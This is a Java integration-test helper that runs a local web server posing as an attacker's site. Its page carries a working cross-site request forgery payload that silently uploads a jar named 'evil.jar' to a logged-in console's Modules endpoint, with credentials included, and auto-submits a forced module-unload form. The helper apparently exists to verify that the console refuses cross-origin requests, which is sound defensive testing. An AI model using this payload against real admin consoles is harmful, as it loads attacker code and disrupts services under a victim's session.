package org.devhost.itests;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;

/**
 * Another web site, as an attacker would run one: a tiny HTTP server on a free loopback port (so
 * another origin than the console's, same machine), serving one page that, once opened in a
 * browser where the console is logged in, tries what a cross-site request can do without reading
 * any answer: a {@code no-cors} multipart upload of a driver jar ({@code action=load}, the jar
 * fetched from this site; {@code window.uploadSent} says when it went out) and a plain form POST
 * that unloads a module, its answer shown in the iframe {@code sink}.
 *
 * <p>Thread-safe (the JDK's server); close it to stop it.
 */
final class CrossOriginSite implements AutoCloseable {
    private final HttpServer server;

    /**
     * @param consoleModules the console's Modules endpoint, e.g. {@code http://127.0.0.1:8080/system/console/modules}
     * @param jar the driver jar the page uploads
     * @param unload the module the page's form asks to unload
     */
    CrossOriginSite(String consoleModules, byte[] jar, String unload) throws IOException {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 8);
        String page = """
                <!DOCTYPE html>
                <html><head><title>cute cats</title></head><body>
                <h1>Nothing to see here</h1>
                <form id="unload" method="POST" action="%1$s" target="sink">
                  <input name="action" value="unload"><input name="module" value="%2$s"><input name="force" value="true">
                </form>
                <iframe name="sink" id="sink" width="900" height="200"></iframe>
                <script>
                  fetch('/evil.jar').then(function (r) { return r.blob(); }).then(function (jar) {
                    var form = new FormData();
                    form.append('action', 'load');
                    form.append('jar', jar, 'evil.jar');
                    // no-cors: the page cannot read the answer, and does not need to
                    return fetch('%1$s', { method: 'POST', mode: 'no-cors', credentials: 'include', body: form });
                  }).then(function () { window.uploadSent = 'sent'; },
                          function (e) { window.uploadSent = 'failed: ' + e; });
                  document.getElementById('unload').submit();
                </script>
                </body></html>
                """.formatted(consoleModules, unload);
        server.createContext("/", x -> answer(x, "text/html; charset=utf-8", page.getBytes(StandardCharsets.UTF_8)));
        server.createContext("/evil.jar", x -> answer(x, "application/java-archive", jar));
        server.start();
    }

    /** The page's address, e.g. {@code http://127.0.0.1:41234/}. */
    String url() {
        return "http://127.0.0.1:" + server.getAddress().getPort() + "/";
    }

    /** The page's origin, as a browser names it in {@code Origin}. */
    String origin() {
        return "http://127.0.0.1:" + server.getAddress().getPort();
    }

    private static void answer(HttpExchange x, String type, byte[] body) throws IOException {
        x.getResponseHeaders().set("Content-Type", type);
        x.sendResponseHeaders(200, body.length);
        try (OutputStream out = x.getResponseBody()) {
            out.write(body);
        }
    }

    @Override
    public void close() {
        server.stop(0);
    }
}
